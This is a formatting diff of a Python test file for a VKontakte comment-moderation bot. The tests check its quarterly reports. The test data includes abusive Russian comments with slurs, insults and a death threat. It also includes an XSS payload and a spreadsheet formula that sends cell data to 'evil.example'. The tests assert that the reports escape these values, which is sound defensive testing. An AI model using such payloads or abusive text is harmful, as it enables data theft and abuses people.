@@ -40,13 +40,24 @@ SVG = "{http://www.w3.org/2000/svg}"
 ORG = "Администрация Пятигорска"
 TRUSTED = [7000 + i for i in range(60)]  # their violations are held for a moderator (one author a day)
 REPEAT = 900001  # a repeat offender: banned 1 day, 7 days, forever
-CLEAN = ["подскажите, пожалуйста, когда откроют каток на площади?", "Дороги ужасные, где деньги?",
-         "Администрация опять ничего не делает, позор", "спасибо за новогоднюю ёлку на площади",
-         "когда включат отопление в школе номер пять?", "на улице Кирова опять не вывезли мусор",
-         "будет ли автобус до Горячеводского по выходным?", "отличная новость, ждём открытия парка"]
-VIOLATING = ["блядь, ни одного талона к педиатру", "ты тупой дебил и идиот", "я тебя найду и убью, тварь",
-             "все чурки должны убираться из нашего города", "понаехали тут черножопые, выгнать всех",
-             "Заработок от 5000 в день без вложений! Пиши в личку, ссылка в профиле http://earn-money.biz"]
+CLEAN = [
+    "подскажите, пожалуйста, когда откроют каток на площади?",
+    "Дороги ужасные, где деньги?",
+    "Администрация опять ничего не делает, позор",
+    "спасибо за новогоднюю ёлку на площади",
+    "когда включат отопление в школе номер пять?",
+    "на улице Кирова опять не вывезли мусор",
+    "будет ли автобус до Горячеводского по выходным?",
+    "отличная новость, ждём открытия парка",
+]
+VIOLATING = [
+    "блядь, ни одного талона к педиатру",
+    "ты тупой дебил и идиот",
+    "я тебя найду и убью, тварь",
+    "все чурки должны убираться из нашего города",
+    "понаехали тут черножопые, выгнать всех",
+    "Заработок от 5000 в день без вложений! Пиши в личку, ссылка в профиле http://earn-money.biz",
+]
 HOSTILE = '<script>alert(1)</script> "><img src=x onerror=alert(1)> блядь'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"жми") блядь'
 G2_SHORT_WEEKS = {3: 2, 7: 1}  # ISO weeks of 2027 in which the hospital's page publishes too little
@@ -164,8 +175,14 @@ class Quarter:
     def decision_for(self, group: int, posted: dict[str, Any]) -> dict[str, Any]:
         """The automatic decision about a comment the test posted."""
         suffix = f":{posted['comment_id']}"
-        (found,) = [r for r in self.daemon.store.decisions(0) if r["community_id"] == group
-                    and r["comment_key"].endswith(suffix) and r["kind"] == posted["kind"] and r["decided_by"] == "auto"]
+        (found,) = [
+            r
+            for r in self.daemon.store.decisions(0)
+            if r["community_id"] == group
+            and r["comment_key"].endswith(suffix)
+            and r["kind"] == posted["kind"]
+            and r["decided_by"] == "auto"
+        ]
         return found
 
 
@@ -181,12 +198,18 @@ async def simulate(emu: VKEmulator, judge: Any, db: Path, cfg: Path) -> tuple[Lo
 
     async def start() -> Any:
         config = load_config(cfg, env)
-        opts = DaemonOptions(outbox_poll=0.02, http=("127.0.0.1", 0), sweep_interval=2.0, retry_base=0.2,
-                             clock=q.clock)
+        opts = DaemonOptions(
+            outbox_poll=0.02, http=("127.0.0.1", 0), sweep_interval=2.0, retry_base=0.2, clock=q.clock
+        )
         vk_opts = VKOptions(api_url=emu.api_url, longpoll_wait=1, captcha_pause=1.0, client_backoff_cap=0.5)
         metrics = Metrics()
-        d = Daemon(config, platforms=build_platforms(config, metrics=metrics, vk=vk_opts), options=opts, judge=judge,
-                   metrics=metrics)
+        d = Daemon(
+            config,
+            platforms=build_platforms(config, metrics=metrics, vk=vk_opts),
+            options=opts,
+            judge=judge,
+            metrics=metrics,
+        )
         await d.start()
         q.daemon, q.sent = d, 0
         return d
@@ -198,8 +221,10 @@ async def simulate(emu: VKEmulator, judge: Any, db: Path, cfg: Path) -> tuple[Lo
     q.post(G1, at(2027, 1, 1, 0, 10))
     q.goto(at(2027, 1, 1, 0, 30))
     d = await start()
-    await wait_for(lambda: d.store.count_posts("vk", G1, at(2027, 1, 1, 0), at(2027, 1, 2, 0)) == 1,
-                   what="the first start reads the page's earlier posts from its wall")
+    await wait_for(
+        lambda: d.store.count_posts("vk", G1, at(2027, 1, 1, 0), at(2027, 1, 2, 0)) == 1,
+        what="the first start reads the page's earlier posts from its wall",
+    )
     # a comment just after midnight Moscow time (still 31 December in UTC) belongs to the first quarter
     q.goto(at(2027, 1, 1, 0, 40))
     q.comment(G2, CLEAN[0])
@@ -266,8 +291,14 @@ async def simulate(emu: VKEmulator, judge: Any, db: Path, cfg: Path) -> tuple[Lo
             q.goto(max(q.now, held_at) + 3600 * (1 + n % 7))
             verdict = ["keep", "delete", "delete_and_ban"][n % 3]
             kwargs: dict[str, Any] = {"ban_days": 3} if verdict == "delete_and_ban" else {}
-            d.decisions.moderate(row, verdict, by="Иванова", category="insult" if verdict != "keep" else "",
-                                 now=q.clock(), **kwargs)
+            d.decisions.moderate(
+                row,
+                verdict,
+                by="Иванова",
+                category="insult" if verdict != "keep" else "",
+                now=q.clock(),
+                **kwargs,
+            )
             q.log.delays[group].append(q.clock() - held_at)
             if verdict != "keep":
                 q.removed(group, text, who="Иванова", category="insult")
@@ -296,7 +327,9 @@ async def simulate(emu: VKEmulator, judge: Any, db: Path, cfg: Path) -> tuple[Lo
     q.comment(G1, HOSTILE)
     q.comment(G1, FORMULA)
     await q.settle()
-    await wait_for(lambda: len(d.store.report_posts(None, 0, 2**40)) == q.posts_made, what="every post stored once")
+    await wait_for(
+        lambda: len(d.store.report_posts(None, 0, 2**40)) == q.posts_made, what="every post stored once"
+    )
     await d.stop()
     extra = {"waiting": {g: q.log.held[g] - len(q.log.delays[g]) for g in (G1, G2)}}
     return q.log, extra
@@ -338,8 +371,11 @@ def _report(tmp_path: Path, cfg: Path, fmt: str, *args: str, period: str = "2027
 def _html_figures(path: Path) -> tuple[Any, dict[tuple[str, str], str]]:
     parser = html5lib.HTMLParser(strict=True, namespaceHTMLElements=False)
     doc = parser.parse(path.read_bytes())  # strict: any parse error raises
-    cells = {(td.get("data-figure"), td.get("data-page")): td.get("data-value")
-             for td in doc.iter("td") if td.get("data-figure") and td.get("data-page")}
+    cells = {
+        (td.get("data-figure"), td.get("data-page")): td.get("data-value")
+        for td in doc.iter("td")
+        if td.get("data-figure") and td.get("data-page")
+    }
     return doc, cells
 
 
@@ -349,19 +385,24 @@ def _expected(log: Log) -> dict[tuple[str, str], float]:
         page = f"vk:{g}"
         received = log.received[(g, "comment")] + log.received[(g, "message")]
         delays = log.delays[g]
-        exp |= {("received_comments", page): log.received[(g, "comment")],
-                ("received_messages", page): log.received[(g, "message")],
-                ("removed", page): log.removed[g],
-                ("per_1000", page): 1000 * log.removed[g] / received,
-                ("blacklisted_authors", page): len(log.banned_authors[g]),
-                ("held", page): log.held[g], ("held_decided", page): len(delays),
-                ("held_waiting", page): log.held[g] - len(delays),
-                ("review_median", page): statistics.median(delays), ("review_p95", page): p95(delays),
-                ("auto_actions", page): log.auto[g], ("auto_undone", page): log.undone[g],
-                ("undone_share", page): log.undone[g] / log.auto[g] if log.auto[g] else 0,
-                ("posts", page): log.posts_in_q1[g],
-                ("weeks_met", page): sum(log.posts[g][w] >= 3 for w in range(1, 13)),
-                ("weeks_share", page): log.share(g)}
+        exp |= {
+            ("received_comments", page): log.received[(g, "comment")],
+            ("received_messages", page): log.received[(g, "message")],
+            ("removed", page): log.removed[g],
+            ("per_1000", page): 1000 * log.removed[g] / received,
+            ("blacklisted_authors", page): len(log.banned_authors[g]),
+            ("held", page): log.held[g],
+            ("held_decided", page): len(delays),
+            ("held_waiting", page): log.held[g] - len(delays),
+            ("review_median", page): statistics.median(delays),
+            ("review_p95", page): p95(delays),
+            ("auto_actions", page): log.auto[g],
+            ("auto_undone", page): log.undone[g],
+            ("undone_share", page): log.undone[g] / log.auto[g] if log.auto[g] else 0,
+            ("posts", page): log.posts_in_q1[g],
+            ("weeks_met", page): sum(log.posts[g][w] >= 3 for w in range(1, 13)),
+            ("weeks_share", page): log.share(g),
+        }
         for cat, count in log.by_category[g].items():
             exp[(f"removed:{cat}", page)] = count
         for target, count in log.by_attribute[g].items():
@@ -387,11 +428,18 @@ def test_the_quarter_as_html_matches_the_test_s_own_counts(quarter: Any, tmp_pat
     assert float(cells[("received_comments", "total")]) == total("received_comments")
     assert float(cells[("removed", "total")]) == total("removed")
     # the repeat offender went 1 day → 7 days → forever; the moderator's ban was 3 days
-    assert {("bans:1", "vk:1"), ("bans:7", "vk:1"), ("bans:forever", "vk:1"), ("bans:3", "vk:1")} <= set(cells)
+    assert {("bans:1", "vk:1"), ("bans:7", "vk:1"), ("bans:forever", "vk:1"), ("bans:3", "vk:1")} <= set(
+        cells
+    )
     # clause 15: the hospital's page misses two weeks, the administration's none
     assert expected[("weeks_met", "vk:2")] == 10 and expected[("weeks_met", "vk:1")] == 12
-    weeks = {t.get("data-page"): {r.get("data-week"): r.get("data-status") for r in t.iter("tr") if r.get("data-week")}
-             for t in doc.iter("table") if "weeks" in (t.get("class") or "")}
+    weeks = {
+        t.get("data-page"): {
+            r.get("data-week"): r.get("data-status") for r in t.iter("tr") if r.get("data-week")
+        }
+        for t in doc.iter("table")
+        if "weeks" in (t.get("class") or "")
+    }
     assert [w for w, s in weeks["vk:2"].items() if s == "missed"] == ["2027-W03", "2027-W07"]
     assert set(weeks["vk:1"].values()) == {"met"} and len(weeks["vk:1"]) == 12
     # charts are drawn into the page: comments and removals per week (total + each page), posts per page
@@ -403,8 +451,13 @@ def test_the_quarter_as_html_matches_the_test_s_own_counts(quarter: Any, tmp_pat
     assert "3-я неделя (18.01–24.01) — 2 публикации" in text
     assert "7-я неделя (15.02–21.02) — 1 публикация" in text
     # the removal table: one row per removal that stands, with who decided; no texts by default
-    rows = [r for t in doc.iter("table") if "removals" in (t.get("class") or "") for r in t.iter("tr")
-            if r.get("data-decision")]
+    rows = [
+        r
+        for t in doc.iter("table")
+        if "removals" in (t.get("class") or "")
+        for r in t.iter("tr")
+        if r.get("data-decision")
+    ]
     assert len(rows) == sum(expected[("removed", f"vk:{g}")] for g in (G1, G2))
     who = Counter("".join(r.findall("td")[5].itertext()) for r in rows)
     assert who["Иванова"] == log.removals_by_who["Иванова"] and who["автоматически"] > 0
@@ -419,7 +472,11 @@ def test_busiest_days_and_moscow_time_edges(quarter: Any, tmp_path: Path) -> Non
     log, _, cfg, _ = quarter
     doc, cells = _html_figures(_report(tmp_path, cfg, "html"))
     busiest = [t for t in doc.iter("table") if "busiest" in (t.get("class") or "")][0]
-    shown = [int(td.text.replace("\xa0", "")) for td in busiest.iter("td") if td.get("data-figure") == "busiest_comments"]
+    shown = [
+        int(td.text.replace("\xa0", ""))
+        for td in busiest.iter("td")
+        if td.get("data-figure") == "busiest_comments"
+    ]
     assert shown == sorted(log.days.values(), reverse=True)[:5]
     # the comment at 00:30 on 1 April (still 31 March in UTC) is not in the first quarter, 23:30 on 31 March is
     assert float(cells[("received_comments", "vk:2")]) == log.received[(G2, "comment")]
@@ -432,8 +489,11 @@ def test_xlsx_has_the_same_figures_and_native_charts(quarter: Any, tmp_path: Pat
     ws = wb["Сводка"]
     header = next(r for r in ws.iter_rows(values_only=True) if r[0] == "key")
     cols = {name: i for i, name in enumerate(header)}
-    page_col = {"vk:1": cols["Администрация города Пятигорска (ВКонтакте)"],
-                "vk:2": cols["Городская больница №1 (ВКонтакте)"], "total": cols["Итого"]}
+    page_col = {
+        "vk:1": cols["Администрация города Пятигорска (ВКонтакте)"],
+        "vk:2": cols["Городская больница №1 (ВКонтакте)"],
+        "total": cols["Итого"],
+    }
     checked = 0
     for row in ws.iter_rows(values_only=True):
         if not row[0] or row[0] == "key":
@@ -483,12 +543,16 @@ def test_texts_only_with_with_texts_and_always_escaped(quarter: Any, tmp_path: P
     assert "<script>alert" not in raw and "<img src=x" not in raw
     assert HOSTILE in path_text(doc)  # shown as text
     assert not [el for el in doc.iter("script")] and not [el for el in doc.iter("img")]
-    wb = openpyxl.load_workbook(_report(tmp_path, cfg, "xlsx", "--with-texts", period="2027-04-01..2027-04-01"))
+    wb = openpyxl.load_workbook(
+        _report(tmp_path, cfg, "xlsx", "--with-texts", period="2027-04-01..2027-04-01")
+    )
     texts = [c for row in wb["Удаления"].iter_rows() for c in row if c.value == HOSTILE]
     assert texts and texts[0].data_type == "s"
     formulas = [c for row in wb["Удаления"].iter_rows() for c in row if c.value == FORMULA]
     assert formulas and formulas[0].data_type == "s"  # text, never a formula
-    out = _report(tmp_path, cfg, "csv", "--with-texts", period="2027-04-01..2027-04-01").read_text(encoding="utf-8")
+    out = _report(tmp_path, cfg, "csv", "--with-texts", period="2027-04-01..2027-04-01").read_text(
+        encoding="utf-8"
+    )
     cells = {c for row in csv.reader(io.StringIO(out.split("[Удаления]\n", 1)[1])) for c in row}
     assert HOSTILE in cells  # starts with "<": nothing to neutralise
     assert "'" + FORMULA in cells  # the spreadsheet reads it as text
@@ -496,7 +560,9 @@ def test_texts_only_with_with_texts_and_always_escaped(quarter: Any, tmp_path: P
     assert "alert(1)" not in no_texts and "--with-texts" in no_texts
 
 
-def test_same_database_and_period_give_the_same_figures_also_from_a_copy(quarter: Any, tmp_path: Path) -> None:
+def test_same_database_and_period_give_the_same_figures_also_from_a_copy(
+    quarter: Any, tmp_path: Path
+) -> None:
     from bot.reports.build import make_report, select_pages
     from bot.reports.periods import parse_period
     from bot.reports.rows import figure_rows
@@ -510,9 +576,15 @@ def test_same_database_and_period_give_the_same_figures_also_from_a_copy(quarter
         with Store(path, readonly=True) as store:
             pages, scope = select_pages(None, store.report_pages())
             report = make_report(store, parse_period("2027Q1"), pages, scope=scope, generated_at=stamp)
-        return [(r.key, r.values) for r in figure_rows(report)] + [
-            (w.week.key, w.posts, w.comments, sorted(w.removals.items()), w.status)
-            for pr in report.pages for w in pr.figures.weeks] + [(r.decision_id, r.at) for r in report.removals]
+        return (
+            [(r.key, r.values) for r in figure_rows(report)]
+            + [
+                (w.week.key, w.posts, w.comments, sorted(w.removals.items()), w.status)
+                for pr in report.pages
+                for w in pr.figures.weeks
+            ]
+            + [(r.decision_id, r.at) for r in report.removals]
+        )
 
     first = figures(db, 1.0)
     assert first == figures(db, time.time()) == figures(copy, 2.0)
@@ -535,8 +607,21 @@ def test_selection_by_community_and_organisation(quarter: Any, tmp_path: Path, c
         assert main(["report", "--period", "2027Q1", "--config", str(cfg), "--out", str(out), *args]) == 2
         assert "не найдена" in capsys.readouterr().err
     with pytest.raises(SystemExit):
-        main(["report", "--period", "2027Q1", "--config", str(cfg), "--out", str(out), "--community", "1",
-              "--organisation", ORG])
+        main(
+            [
+                "report",
+                "--period",
+                "2027Q1",
+                "--config",
+                str(cfg),
+                "--out",
+                str(out),
+                "--community",
+                "1",
+                "--organisation",
+                ORG,
+            ]
+        )
     assert "not allowed with" in capsys.readouterr().err
     assert not out.exists()
 
